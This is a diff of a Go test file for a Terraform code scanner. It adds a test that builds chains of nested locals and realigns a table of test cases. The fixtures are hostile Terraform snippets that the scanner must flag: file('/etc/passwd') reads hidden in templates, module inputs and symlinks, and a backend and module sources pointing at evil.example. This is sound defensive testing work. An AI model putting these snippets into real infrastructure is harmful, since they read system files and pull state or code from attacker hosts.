@@ -43,6 +43,13 @@ func lookAt(t *testing.T, files map[string]string, l look) []string {
 // TestCodeIsLookedThrough plays everything that no plan shows, each in a stack of its own.
 func TestCodeIsLookedThrough(t *testing.T) {
 	input := func(expr string) string { return "resource \"terraform_data\" \"x\" {\n  input = " + expr + "\n}\n" }
+	names := func(n int) string { // each says the one before it ten times
+		text := "locals {\n  n0 = \"\"\n"
+		for i := 1; i <= n; i++ {
+			text += fmt.Sprintf("  n%d = \"%s\"\n", i, strings.Repeat(fmt.Sprintf("${local.n%d}", i-1), 10))
+		}
+		return text + "}\n"
+	}
 	const at = "live/app/main.tf"
 	for name, c := range map[string]struct {
 		main string
@@ -110,20 +117,21 @@ func TestCodeIsLookedThrough(t *testing.T) {
 			more: map[string]string{"live/app/t/linked": "-> ../../../shared", "shared/t.tpl": "${file(\"/etc/passwd\")}\n"},
 			want: []string{"file live/app/main.tf:2"},
 		},
-		"a template that a provider renders": {main: "data \"template_file\" \"x\" {\n  template = \"$${file(\\\"/etc/passwd\\\")}\"\n}\n", want: []string{"file live/app/main.tf:1"}},
-		"a state kept by a service":          {main: "terraform {\n  cloud {\n    hostname = \"evil.example\"\n  }\n}\n", want: []string{"backend live/app/main.tf:2"}},
-		"a state in somebody's database":     {main: "data \"terraform_remote_state\" \"x\" {\n  backend = \"pg\"\n}\n", want: []string{"remote_state live/app/main.tf:2"}},
-		"a module of a test":                 {main: input("1"), more: map[string]string{"live/app/tests/x.tftest.hcl": "run \"x\" {\n  module {\n    source = \"git::https://evil.example/m.git\"\n  }\n}\n"}, want: []string{"module live/app/tests/x.tftest.hcl:3"}},
-		"a template's own file":              {main: input("templatefile(\"t.tpl\", {})"), more: map[string]string{"live/app/t.tpl": "a\n${file(\"/etc/passwd\")}\n"}, want: []string{"file live/app/t.tpl:2"}},
-		"a template's given path":            {main: input("templatefile(\"${path.module}/t.tpl\", { path = { module = \"/etc\" } })"), more: map[string]string{"live/app/t.tpl": "${file(\"${path.module}/x\")}\n"}, want: []string{"file live/app/t.tpl:1"}},
-		"a template of anything":             {main: input("templatestring(local.t, {})"), want: []string{"file live/app/main.tf:2"}},
-		"code in JSON":                       {main: input("1"), more: map[string]string{"live/app/x.tf.json": "{}"}, want: []string{"unread live/app/x.tf.json:1"}},
-		"code that is too deep":              {main: "locals {\n  x = " + strings.Repeat("(", 600) + "1" + strings.Repeat(")", 600) + "\n}\n", want: []string{"unread live/app/main.tf:1"}},
-		"what a module does":                 {main: "module \"m\" {\n  source = \"../../modules/m\"\n}\n", more: map[string]string{"modules/m/m.tf": "data \"external\" \"x\" {\n}\n"}, want: []string{"external modules/m/m.tf:1"}},
-		"what a module is told":              {main: "module \"m\" {\n  source = \"../../modules/m\"\n  p = \"/etc/passwd\"\n}\n", more: map[string]string{"modules/m/m.tf": "variable \"p\" {}\n" + input("file(var.p)")}, want: []string{"file modules/m/m.tf:3"}},
-		"a module from elsewhere":            {main: "module \"m\" {\n  source = \"git::https://evil.example/m.git?ref=v1\"\n}\n", want: []string{"module live/app/main.tf:2"}},
-		"a module of the machine":            {main: "module \"m\" {\n  source = \"/etc\"\n}\n", want: []string{"module live/app/main.tf:2"}},
-		"a module outside":                   {main: "module \"m\" {\n  source = \"../../../m\"\n}\n", want: []string{"module live/app/main.tf:2"}},
+		"a template that a provider renders":      {main: "data \"template_file\" \"x\" {\n  template = \"$${file(\\\"/etc/passwd\\\")}\"\n}\n", want: []string{"file live/app/main.tf:1"}},
+		"a state kept by a service":               {main: "terraform {\n  cloud {\n    hostname = \"evil.example\"\n  }\n}\n", want: []string{"backend live/app/main.tf:2"}},
+		"a state in somebody's database":          {main: "data \"terraform_remote_state\" \"x\" {\n  backend = \"pg\"\n}\n", want: []string{"remote_state live/app/main.tf:2"}},
+		"a module of a test":                      {main: input("1"), more: map[string]string{"live/app/tests/x.tftest.hcl": "run \"x\" {\n  module {\n    source = \"git::https://evil.example/m.git\"\n  }\n}\n"}, want: []string{"module live/app/tests/x.tftest.hcl:3"}},
+		"a template's own file":                   {main: input("templatefile(\"t.tpl\", {})"), more: map[string]string{"live/app/t.tpl": "a\n${file(\"/etc/passwd\")}\n"}, want: []string{"file live/app/t.tpl:2"}},
+		"a template's given path":                 {main: input("templatefile(\"${path.module}/t.tpl\", { path = { module = \"/etc\" } })"), more: map[string]string{"live/app/t.tpl": "${file(\"${path.module}/x\")}\n"}, want: []string{"file live/app/t.tpl:1"}},
+		"a template of anything":                  {main: input("templatestring(local.t, {})"), want: []string{"file live/app/main.tf:2"}},
+		"code in JSON":                            {main: input("1"), more: map[string]string{"live/app/x.tf.json": "{}"}, want: []string{"unread live/app/x.tf.json:1"}},
+		"code that is too deep":                   {main: "locals {\n  x = " + strings.Repeat("(", 600) + "1" + strings.Repeat(")", 600) + "\n}\n", want: []string{"unread live/app/main.tf:1"}},
+		"names that lead to names without number": {main: names(9) + input("file(local.n9)"), want: []string{"file live/app/main.tf:14"}},
+		"what a module does":                      {main: "module \"m\" {\n  source = \"../../modules/m\"\n}\n", more: map[string]string{"modules/m/m.tf": "data \"external\" \"x\" {\n}\n"}, want: []string{"external modules/m/m.tf:1"}},
+		"what a module is told":                   {main: "module \"m\" {\n  source = \"../../modules/m\"\n  p = \"/etc/passwd\"\n}\n", more: map[string]string{"modules/m/m.tf": "variable \"p\" {}\n" + input("file(var.p)")}, want: []string{"file modules/m/m.tf:3"}},
+		"a module from elsewhere":                 {main: "module \"m\" {\n  source = \"git::https://evil.example/m.git?ref=v1\"\n}\n", want: []string{"module live/app/main.tf:2"}},
+		"a module of the machine":                 {main: "module \"m\" {\n  source = \"/etc\"\n}\n", want: []string{"module live/app/main.tf:2"}},
+		"a module outside":                        {main: "module \"m\" {\n  source = \"../../../m\"\n}\n", want: []string{"module live/app/main.tf:2"}},
 
 		"an ordinary stack": {
 			main: `
